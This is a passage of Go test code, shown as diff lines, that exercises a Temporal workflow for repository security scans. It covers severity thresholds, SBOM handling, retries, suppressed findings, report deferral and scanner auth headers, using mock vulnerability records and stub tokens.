+
+	leakedKey := Vulnerability{
+		ID:       "SECRET-AWS-KEY",
+		Severity: "high",
+		Title:    "AWS access key committed",
+		FilePath: "config/prod.env",
+	}
+
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "secrets",
+		Vulnerabilities: []Vulnerability{leakedKey},
+		Duration:        time.Second * 4,
+	}, nil).Once()
+	env.OnActivity(activities.RunSASTScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{}, nil).Never()
+	env.OnActivity(RunDependencyScan, mock.Anything, mock.Anything).Return(&ScanTypeResult{}, nil).Never()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{}, nil).Never()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if len(result.Vulnerabilities) != 1 || result.Vulnerabilities[0].ID != leakedKey.ID {
+		t.Errorf("Expected the leaked key inline, got %+v", result.Vulnerabilities)
+	}
+
+	if result.ReportURL != "" {
+		t.Errorf("Expected no report, got %s", result.ReportURL)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSecurityScanWorkflow_SBOMFailureRecorded(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"dependency"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "dependency",
+		Vulnerabilities: []Vulnerability{},
+		Duration:        time.Minute * 2,
+	}, nil)
+
+	env.OnActivity(GenerateSBOM, mock.Anything, request).Return(nil, errors.New("manifest parser crashed"))
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "PASSED" {
+		t.Errorf("Expected status PASSED, got %s", result.Status)
+	}
+
+	if result.SBOMStatus != "FAILED" {
+		t.Errorf("Expected SBOM status FAILED, got %s", result.SBOMStatus)
+	}
+}
+
+func TestSecurityScanWorkflow_DependencyScanSBOM(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"dependency"},
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	sbomURL := "https://security.example.com/sboms/abc123.json"
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "dependency",
+		Vulnerabilities: []Vulnerability{},
+		Duration:        time.Minute * 2,
+		SBOMURL:         sbomURL,
+	}, nil)
+
+	// No GenerateSBOM mock: the dependency scan's SBOM is used as is
+
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, sbomURL, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil).Once()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+	env.AssertExpectations(t)
+
+	if result.SBOMURL != sbomURL {
+		t.Errorf("Expected SBOM URL %s, got %q", sbomURL, result.SBOMURL)
+	}
+	if result.SBOMStatus != "GENERATED" {
+		t.Errorf("Expected SBOM status GENERATED, got %s", result.SBOMStatus)
+	}
+}
+
+func TestSecurityScanWorkflow_RegenerateSBOM(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:  "https://github.com/example/repo",
+		Branch:         "main",
+		CommitSHA:      "abc123",
+		ScanTypes:      []string{"dependency"},
+		RegenerateSBOM: true,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(RunDependencyScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "dependency",
+		Vulnerabilities: []Vulnerability{},
+		Duration:        time.Minute * 2,
+	}, nil)
+
+	env.OnActivity(GenerateSBOM, mock.Anything, request).Return(nil,
+		temporal.NewNonRetryableApplicationError("lockfile out of date", "SBOMError", nil)).Once()
+	env.OnActivity(GenerateSBOM, mock.Anything, request).Return(&SBOMResult{
+		Format: "cyclonedx-json",
+		URL:    "https://security.example.com/sboms/abc123.json",
+	}, nil).Once()
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.SBOMStatus != "GENERATED" {
+		t.Errorf("Expected SBOM status GENERATED after regeneration, got %s", result.SBOMStatus)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestDetermineStatus(t *testing.T) {
+	critical := Vulnerability{ID: "CVE-2024-0001", Severity: "critical"}
+	high := Vulnerability{ID: "SAST-001", Severity: "high"}
+	medium := Vulnerability{ID: "SAST-002", Severity: "medium"}
+	low := Vulnerability{ID: "SAST-003", Severity: "low"}
+
+	tests := []struct {
+		name           string
+		vulns          []Vulnerability
+		failOnSeverity string
+		want           string
+	}{
+		{"default fails on critical", []Vulnerability{low, critical, high}, "", "FAILED_CRITICAL"},
+		{"default fails on high", []Vulnerability{medium, high}, "", "FAILED_HIGH"},
+		{"default warns on medium", []Vulnerability{medium, low}, "", "PASSED_WITH_WARNINGS"},
+		{"default passes clean", nil, "", "PASSED"},
+		{"critical threshold fails on critical", []Vulnerability{high, critical}, "critical", "FAILED_CRITICAL"},
+		{"critical threshold warns on high", []Vulnerability{high, medium}, "critical", "PASSED_WITH_WARNINGS"},
+		{"high threshold fails on high", []Vulnerability{low, high}, "high", "FAILED_HIGH"},
+		{"medium threshold fails on medium", []Vulnerability{low, medium}, "medium", "FAILED_MEDIUM"},
+		{"medium threshold reports the worst finding", []Vulnerability{medium, critical}, "medium", "FAILED_CRITICAL"},
+		{"medium threshold warns on low", []Vulnerability{low}, "medium", "PASSED_WITH_WARNINGS"},
+		{"low threshold fails on low", []Vulnerability{low}, "low", "FAILED_LOW"},
+		{"low threshold passes clean", nil, "low", "PASSED"},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			if got := determineStatus(tt.vulns, tt.failOnSeverity); got != tt.want {
+				t.Errorf("Expected %s, got %s", tt.want, got)
+			}
+		})
+	}
+}
+
+func TestSecurityScanWorkflow_UnknownFailOnSeverity(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+
+	request := SecurityScanRequest{
+		RepositoryURL:  "https://github.com/example/repo",
+		CommitSHA:      "abc123def456",
+		FailOnSeverity: "severe",
+	}
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{})
+
+	if !env.IsWorkflowCompleted() {
+		t.Fatal("Workflow did not complete")
+	}
+
+	var appErr *temporal.ApplicationError
+	if err := env.GetWorkflowError(); !errors.As(err, &appErr) || appErr.Type() != UnknownSeverityError {
+		t.Fatalf("Expected an %s error, got %v", UnknownSeverityError, err)
+	}
+}
+
+func TestSecurityScanWorkflow_AutoUpdateBaselineOnlyWhenPassing(t *testing.T) {
+	tests := []struct {
+		name       string
+		vulns      []Vulnerability
+		wantStatus string
+		wantUpdate bool
+	}{
+		{"clean", []Vulnerability{}, "PASSED", true},
+		{"warnings", []Vulnerability{{ID: "SAST-001", Severity: "low", FilePath: "main.go"}}, "PASSED_WITH_WARNINGS", true},
+		{"high", []Vulnerability{{ID: "SAST-002", Severity: "high", FilePath: "main.go"}}, "FAILED_HIGH", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			testSuite := &testsuite.WorkflowTestSuite{}
+			env := testSuite.NewTestWorkflowEnvironment()
+			allowRepoScan(env)
+
+			request := SecurityScanRequest{
+				RepositoryURL:      "https://github.com/example/repo",
+				Branch:             "main",
+				CommitSHA:          "abc123",
+				ScanTypes:          []string{"sast"},
+				AutoUpdateBaseline: true,
+			}
+
+			env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+				ScanType:        "sast",
+				Vulnerabilities: tt.vulns,
+			}, nil)
+			env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+			env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+				ReportID: "SEC-123",
+				URL:      "https://security.example.com/reports/SEC-123",
+			}, nil)
+			env.OnActivity(activities.UpdateBaseline, mock.Anything, "https://github.com/example/repo", "main", "abc123", tt.vulns).Return(nil).Maybe()
+
+			env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{Permissions: []string{"security:scan:execute"}})
+
+			var result SecurityScanResult
+			if err := env.GetWorkflowResult(&result); err != nil {
+				t.Fatalf("Workflow failed: %v", err)
+			}
+
+			if result.Status != tt.wantStatus {
+				t.Errorf("Expected status %s, got %s", tt.wantStatus, result.Status)
+			}
+
+			wantCalls := 0
+			if tt.wantUpdate {
+				wantCalls = 1
+			}
+			env.AssertActivityNumberOfCalls(t, "UpdateBaseline", wantCalls)
+		})
+	}
+}
+
+func TestSecurityScanWorkflow_GenerateAttestation(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:       "https://github.com/example/repo",
+		Branch:              "main",
+		CommitSHA:           "abc123",
+		ScanTypes:           []string{"secrets", "sast"},
+		GenerateAttestation: true,
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{ScanType: "sast"}, nil)
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{ScanType: "secrets"}, nil)
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{
+		ReportID: "SEC-123",
+		URL:      "https://security.example.com/reports/SEC-123",
+	}, nil)
+	env.OnActivity(GenerateAttestation, mock.Anything, mock.MatchedBy(func(result SecurityScanResult) bool {
+		return result.CommitSHA == "abc123" && strings.Join(result.ScannersRun, ",") == "sast,secrets"
+	})).Return(&AttestationResult{URL: "https://security.example.com/attestations/SEC-123.intoto.jsonl"}, nil).Once()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{Permissions: []string{"security:scan:execute"}})
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.AttestationURL != "https://security.example.com/attestations/SEC-123.intoto.jsonl" {
+		t.Errorf("Expected the attestation URL on the result, got %q", result.AttestationURL)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSecurityScanWorkflow_DeferReport(t *testing.T) {
+	start := time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC)
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	env.SetStartTime(start)
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL: "https://github.com/example/repo",
+		Branch:        "main",
+		CommitSHA:     "abc123",
+		ScanTypes:     []string{"sast"},
+		DeferReport:   true,
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: []Vulnerability{{ID: "SAST-001", Severity: "low", FilePath: "main.go"}},
+	}, nil)
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{}, nil).Never()
+
+	// The report takes far longer than the scan
+	env.OnWorkflow(ReportGenerationWorkflow, mock.Anything, mock.MatchedBy(func(request ReportGenerationRequest) bool {
+		return len(request.Vulnerabilities) == 1
+	})).Return(&ReportResult{ReportID: "SEC-123"}, nil).After(time.Hour).Once()
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, AgentContext{Permissions: []string{"security:scan:execute"}})
+
+	var result SecurityScanResult
+	if err := env.GetWorkflowResult(&result); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if !result.CompletedAt.Before(start.Add(time.Hour)) {
+		t.Errorf("Expected the scan to complete before its report, completed at %v", result.CompletedAt)
+	}
+
+	if result.ReportStatus != "PENDING" {
+		t.Errorf("Expected report status PENDING, got %q", result.ReportStatus)
+	}
+
+	if result.ReportWorkflowID == "" || result.ReportURL != "" {
+		t.Errorf("Expected a report workflow to poll and no report URL yet, got %q and %q", result.ReportWorkflowID, result.ReportURL)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSampleVulnerabilities(t *testing.T) {
+	var vulns []Vulnerability
+	add := func(severity string, count int) {
+		for i := 0; i < count; i++ {
+			vulns = append(vulns, Vulnerability{
+				ID:       fmt.Sprintf("%s-%03d", severity, i),
+				Severity: severity,
+				FilePath: "main.go",
+			})
+		}
+	}
+	add("critical", 5)
+	add("high", 20)
+	add("medium", 25)
+	add("low", 150)
+
+	sample := sampleVulnerabilities(vulns, 50)
+
+	if len(sample) != 50 {
+		t.Fatalf("Expected 50 sampled vulnerabilities, got %d", len(sample))
+	}
+
+	if got := countBySeverity(sample, "critical"); got != 5 {
+		t.Errorf("Expected all 5 criticals to survive, got %d", got)
+	}
+
+	if got := countBySeverity(sample, "low"); got == 0 || got >= 150 {
+		t.Errorf("Expected lows to be reduced but represented, got %d", got)
+	}
+
+	// Reversing the input must not change which findings are picked
+	reversed := make([]Vulnerability, len(vulns))
+	for i, v := range vulns {
+		reversed[len(vulns)-1-i] = v
+	}
+	again := sampleVulnerabilities(reversed, 50)
+	for i := range sample {
+		if sample[i].ID != again[i].ID {
+			t.Fatalf("Expected a stable sample, got %s and %s at %d", sample[i].ID, again[i].ID, i)
+		}
+	}
+}
+
+func TestSecurityScanWorkflow_StreamsFindingsPerScanner(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:    "https://github.com/example/repo",
+		Branch:           "main",
+		CommitSHA:        "abc123",
+		ScanTypes:        []string{"sast", "secrets"},
+		StreamFindings:   true,
+		StreamWorkflowID: "agent-session-xyz",
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: []Vulnerability{{ID: "SAST-001", Severity: "medium"}},
+	}, nil)
+
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "secrets",
+		Vulnerabilities: []Vulnerability{{ID: "SECRET-001", Severity: "high"}, {ID: "SECRET-002", Severity: "high"}},
+	}, nil)
+
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{ReportID: "SEC-123"}, nil)
+
+	streamed := make(map[string]int)
+	env.OnSignalExternalWorkflow(mock.Anything, "agent-session-xyz", "", ScanFindingsSignal, mock.Anything).Return(nil).
+		Run(func(args mock.Arguments) {
+			findings := args.Get(4).(ScanFindings)
+			streamed[findings.ScanType] = len(findings.Vulnerabilities)
+		})
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	if err := env.GetWorkflowError(); err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if len(streamed) != 2 {
+		t.Fatalf("Expected a signal per completed scanner, got %v", streamed)
+	}
+
+	if streamed["sast"] != 1 || streamed["secrets"] != 2 {
+		t.Errorf("Expected sast=1 and secrets=2 streamed findings, got %v", streamed)
+	}
+}
+
+func TestRunDependencyScan_AdvisorySource(t *testing.T) {
+	tests := []struct {
+		source   string
+		severity string
+		recorded string
+	}{
+		{"", "medium", "github"},
+		{"osv", "high", "osv"},
+		{"nvd", "critical", "nvd"},
+	}
+
+	for _, tt := range tests {
+		request := SecurityScanRequest{RepositoryURL: "https://github.com/example/repo", AdvisorySource: tt.source}
+		result, err := RunDependencyScan(context.Background(), request)
+		if err != nil {
+			t.Fatalf("Scan with source %q failed: %v", tt.source, err)
+		}
+
+		for _, v := range result.Vulnerabilities {
+			if v.Severity != tt.severity {
+				t.Errorf("Expected %s severity %s from %q, got %s", v.ID, tt.severity, tt.source, v.Severity)
+			}
+			if v.AdvisorySource != tt.recorded {
+				t.Errorf("Expected %s advisory source %s, got %s", v.ID, tt.recorded, v.AdvisorySource)
+			}
+		}
+	}
+
+	_, err := RunDependencyScan(context.Background(), SecurityScanRequest{AdvisorySource: "snyk"})
+	var appErr *temporal.ApplicationError
+	if !errors.As(err, &appErr) || appErr.Type() != UnknownAdvisorySourceError {
+		t.Errorf("Expected an UnknownAdvisorySource error, got %v", err)
+	}
+}
+
+func TestRunDependencyScan_WritesSBOM(t *testing.T) {
+	result, err := RunDependencyScan(context.Background(), SecurityScanRequest{CommitSHA: "abc123"})
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+	if result.SBOMURL != "https://security.example.com/sboms/abc123.json" {
+		t.Errorf("Expected the commit's SBOM URL, got %q", result.SBOMURL)
+	}
+
+	result, err = RunDependencyScan(context.Background(), SecurityScanRequest{LocalMode: true, StagedFiles: []string{"go.mod"}})
+	if err != nil {
+		t.Fatalf("Local scan failed: %v", err)
+	}
+	if result.SBOMURL != "" {
+		t.Errorf("Expected no SBOM for a local scan, got %q", result.SBOMURL)
+	}
+}
+
+func TestSecurityScanWorkflow_InsufficientCoverage(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:   "https://github.com/example/repo",
+		Branch:          "main",
+		CommitSHA:       "abc123",
+		ScanTypes:       []string{"sast", "secrets"},
+		MinFilesScanned: 100,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	// A misconfigured include path leaves the scanners with almost nothing to read
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{ScanType: "sast", FilesScanned: 3}, nil)
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{ScanType: "secrets", FilesScanned: 0}, nil)
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{ReportID: "SEC-123"}, nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if result.Status != "INSUFFICIENT_COVERAGE" {
+		t.Errorf("Expected status INSUFFICIENT_COVERAGE, got %s", result.Status)
+	}
+
+	if result.FilesScanned != 3 {
+		t.Errorf("Expected 3 files scanned, got %d", result.FilesScanned)
+	}
+}
+
+func TestSecurityScanWorkflow_RetryRoundDoesNotRenotifyCriticals(t *testing.T) {
+	testSuite := &testsuite.WorkflowTestSuite{}
+	env := testSuite.NewTestWorkflowEnvironment()
+	allowRepoScan(env)
+
+	request := SecurityScanRequest{
+		RepositoryURL:    "https://github.com/example/repo",
+		Branch:           "main",
+		CommitSHA:        "abc123",
+		ScanTypes:        []string{"sast", "secrets"},
+		RetryFailedScans: 1,
+	}
+
+	agentCtx := AgentContext{
+		AgentID:     "agent-001",
+		SessionID:   "session-xyz",
+		Permissions: []string{"security:scan:execute"},
+	}
+
+	leakedKey := Vulnerability{
+		ID:       "hardcoded-aws-key",
+		Severity: "critical",
+		Title:    "AWS access key committed",
+		FilePath: "config/deploy.go",
+	}
+
+	// SAST fails every attempt of the first round, then finds the same key
+	// the secrets scanner already reported
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(nil, errors.New("sast engine crashed")).Times(2)
+	env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "sast",
+		Vulnerabilities: []Vulnerability{leakedKey},
+	}, nil).Once()
+	env.OnActivity(RunSecretsScan, mock.Anything, request).Return(&ScanTypeResult{
+		ScanType:        "secrets",
+		Vulnerabilities: []Vulnerability{leakedKey},
+	}, nil).Once()
+
+	reports := 0
+	env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{ReportID: "SEC-123"}, nil).
+		Run(func(args mock.Arguments) { reports++ })
+	env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+	env.OnActivity(activities.CheckNotificationSuppression, mock.Anything, mock.Anything).Return(false, nil)
+
+	notifications := 0
+	env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(nil).
+		Run(func(args mock.Arguments) { notifications++ })
+	env.OnActivity(activities.RecordNotificationSent, mock.Anything, mock.Anything).Return(nil)
+
+	env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+	var result SecurityScanResult
+	err := env.GetWorkflowResult(&result)
+
+	if err != nil {
+		t.Fatalf("Workflow failed: %v", err)
+	}
+
+	if len(result.Vulnerabilities) != 2 {
+		t.Errorf("Expected the retried scan's finding to be merged, got %d findings", len(result.Vulnerabilities))
+	}
+
+	if reports != 2 {
+		t.Errorf("Expected the retry round to regenerate the report, got %d reports", reports)
+	}
+
+	if notifications != 1 {
+		t.Errorf("Expected 1 compliance notification across retry rounds, got %d", notifications)
+	}
+
+	env.AssertExpectations(t)
+}
+
+func TestSecurityScanWorkflow_SuppressedVulnerabilities(t *testing.T) {
+	tests := []struct {
+		name       string
+		waived     []string
+		status     string
+		suppressed int
+		notified   bool
+	}{
+		{"waived critical passes", []string{"CVE-2024-99999"}, "PASSED", 1, false},
+		{"other waivers still fail", []string{"CVE-2023-12345"}, "FAILED_CRITICAL", 0, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			testSuite := &testsuite.WorkflowTestSuite{}
+			env := testSuite.NewTestWorkflowEnvironment()
+			allowRepoScan(env)
+
+			request := SecurityScanRequest{
+				RepositoryURL:             "https://github.com/example/repo",
+				Branch:                    "main",
+				CommitSHA:                 "abc123",
+				ScanTypes:                 []string{"sast"},
+				SuppressedVulnerabilities: tt.waived,
+			}
+
+			agentCtx := AgentContext{
+				AgentID:     "agent-001",
+				SessionID:   "session-xyz",
+				Permissions: []string{"security:scan:execute"},
+			}
+
+			env.OnActivity(activities.RunSASTScan, mock.Anything, request).Return(&ScanTypeResult{
+				ScanType: "sast",
+				Vulnerabilities: []Vulnerability{
+					{ID: "CVE-2024-99999", Severity: "critical", Title: "Risk-accepted deserialization", FilePath: "legacy/rpc.go"},
+				},
+			}, nil)
+			env.OnActivity(activities.ResolveOwnership, mock.Anything, mock.Anything, mock.Anything).Return(map[string]string{}, nil).Maybe()
+			env.OnActivity(activities.GenerateSecurityReport, mock.Anything, mock.Anything, mock.Anything, mock.Anything, mock.Anything).Return(&ReportResult{ReportID: "SEC-123"}, nil)
+			env.OnActivity(activities.CheckNotificationSuppression, mock.Anything, mock.Anything).Return(false, nil).Maybe()
+
+			notified := false
+			env.OnActivity(NotifyComplianceTeam, mock.Anything, mock.Anything).Return(nil).
+				Run(func(args mock.Arguments) { notified = true }).Maybe()
+			env.OnActivity(activities.RecordNotificationSent, mock.Anything, mock.Anything).Return(nil).Maybe()
+
+			env.ExecuteWorkflow(SecurityScanWorkflow, request, agentCtx)
+
+			var result SecurityScanResult
+			err := env.GetWorkflowResult(&result)
+
+			if err != nil {
+				t.Fatalf("Workflow failed: %v", err)
+			}
+
+			if result.Status != tt.status {
+				t.Errorf("Expected status %s, got %s", tt.status, result.Status)
+			}
+
+			if result.SuppressedCount != tt.suppressed {
+				t.Errorf("Expected %d suppressed, got %d", tt.suppressed, result.SuppressedCount)
+			}
+
+			if len(result.Vulnerabilities)+result.SuppressedCount != 1 {
+				t.Errorf("Expected suppressed findings to be dropped from the result, got %d findings", len(result.Vulnerabilities))
+			}
+
+			if notified != tt.notified {
+				t.Errorf("Expected notified=%v, got %v", tt.notified, notified)
+			}
+		})
+	}
+}
+
+func TestRunSASTScan_SendsAuthHeaders(t *testing.T) {
+	var gotAuth string
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		gotAuth = r.Header.Get("Authorization")
+		if gotAuth != "Bearer rules-token" {
+			w.WriteHeader(http.StatusUnauthorized)
+			return
+		}
+		w.Write([]byte("rules: []"))
+	}))
+	defer server.Close()
+
+	a := &Activities{
+		ScannerHTTPClient: server.Client(),
+		Secrets: memorySecretStore{
+			"scanner-auth": RedactedHeaders{"Authorization": "Bearer rules-token"},
+		},
+	}
+
+	request := SecurityScanRequest{
+		RepositoryURL:  "https://github.com/example/repo",
+		CustomRulesURL: server.URL + "/rules/payments.yml",
+		AuthSecret:     "scanner-auth",
+	}
+
+	result, err := a.RunSASTScan(context.Background(), request)
+	if err != nil {
+		t.Fatalf("Scan failed: %v", err)
+	}
+
+	if gotAuth != "Bearer rules-token" {
+		t.Errorf("Expected the scanner request to carry the auth header, got %q", gotAuth)
+	}
+
+	if result.RuleSetVersion != builtinSASTRuleSet+"+payments.yml" {
+		t.Errorf("Expected custom rules to be loaded, got %s", result.RuleSetVersion)
+	}
+
+	request.AuthSecret = "missing"
+	if _, err := a.RunSASTScan(context.Background(), request); err == nil {
+		t.Error("Expected an unknown auth secret to fail the scan")
+	}
+}
+
+// memorySecretStore is a SecretStore of headers by secret name
+type memorySecretStore map[string]RedactedHeaders
+
+func (s memorySecretStore) Headers(ctx context.Context, name string) (RedactedHeaders, error) {
+	headers, ok := s[name]
+	if !ok {
+		return nil, fmt.Errorf("secret %q not found", name)
+	}
+	return headers, nil
+}
+
+func TestScanActivities_RecordHeartbeats(t *testing.T) {
+	scanners := map[string]func(context.Context, SecurityScanRequest) (*ScanTypeResult, error){
+		"sast":       activities.RunSASTScan,
+		"dast":       activities.RunDASTScan,
+		"dependency": RunDependencyScan,
+	}
+
+	for name, scanner := range scanners {
+		t.Run(name, func(t *testing.T) {
+			testSuite := &testsuite.WorkflowTestSuite{}
+			env := testSuite.NewTestActivityEnvironment()
+			env.RegisterActivity(scanner)
+
+			var mu sync.Mutex
+			var percents []int
+			env.SetOnActivityHeartbeatListener(func(info *activity.Info, details converter.EncodedValues) {
+				var percent int
+				if err := details.Get(&percent); err != nil {
+					t.Errorf("Expected percent-complete heartbeat details, got %v", err)
+					return
+				}
+				mu.Lock()
+				defer mu.Unlock()
+				percents = append(percents, percent)
+			})
+
+			_, err := env.ExecuteActivity(scanner, SecurityScanRequest{RepositoryURL: "https://github.com/example/repo"})
+			if err != nil {
+				t.Fatalf("Scan failed: %v", err)
+			}
+
+			mu.Lock()
+			defer mu.Unlock()
+			if len(percents) == 0 {
+				t.Fatal("Expected the scan to record a heartbeat")
+			}
+			for _, percent := range percents {
+				if percent < 0 || percent > 100 {
+					t.Errorf("Expected heartbeats to report percent complete, got %d", percent)
+				}
+			}
+		})
+	}
+}
+
+// flappingDASTTarget fails its first flaps calls with a 503
+type flappingDASTTarget struct {
+	flaps int
+	calls int
+}
+
